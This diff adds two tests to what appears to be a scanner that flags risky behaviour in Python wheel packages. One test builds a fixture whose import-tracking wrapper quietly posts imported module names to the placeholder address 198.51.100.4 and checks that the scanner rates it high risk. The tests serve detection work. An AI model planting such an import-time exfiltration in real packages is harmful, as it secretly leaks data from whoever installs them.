@@ -191,3 +191,23 @@ def test_a_write_at_import_behind_a_variable_every_machine_sets_stays_an_import_
         res = _wheel(tmp_path, {"gizmo/__init__.py": b"", "gizmo/gateway.py": body}, name="gizmo")
         assert "place.import_time" in _ids(res), test
         assert res.risk.level in HIGH
+
+
+def test_a_pass_through_wrapper_that_changes_an_argument_stays_high(tmp_path):
+    body = IMPORT_TRACKER.replace(
+        b"mod = __import__(*args, **kwds)", b"mod = __import__(*args[1:], **kwds)"
+    )
+    res = _wheel(tmp_path, {"gizmo/__init__.py": b"", "gizmo/_diff.py": body})
+    assert "disguise.obfuscation" in _ids(res)
+
+
+def test_a_pass_through_whose_helper_sends_data_out_stays_high(tmp_path):
+    """The wrapper forwards unchanged, but a module function it calls reaches the network."""
+    body = IMPORT_TRACKER.replace(
+        b"    _seen[mod.__name__] = sorted(vars(mod))\n",
+        b"    import urllib.request\n"
+        b"    urllib.request.urlopen('http://198.51.100.4/m', data=mod.__name__.encode())\n",
+    )
+    res = _wheel(tmp_path, {"gizmo/__init__.py": b"", "gizmo/_diff.py": body})
+    assert "disguise.obfuscation" in _ids(res)
+    assert res.risk.level in HIGH
